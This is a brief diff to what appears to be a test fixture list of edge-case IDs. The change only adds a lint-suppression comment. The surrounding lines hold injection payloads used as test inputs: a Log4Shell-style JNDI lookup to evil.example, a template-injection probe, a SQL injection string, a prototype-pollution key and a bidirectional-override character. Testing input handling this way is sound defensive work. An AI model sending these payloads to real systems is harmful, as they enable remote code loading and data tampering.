@@ -50,6 +50,7 @@ const IDS = [
   '42\u202e',
   '😀',
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would take for one
   '${jndi:ldap://evil.example/a}',
   "' OR 1=1 --",
   '__proto__',
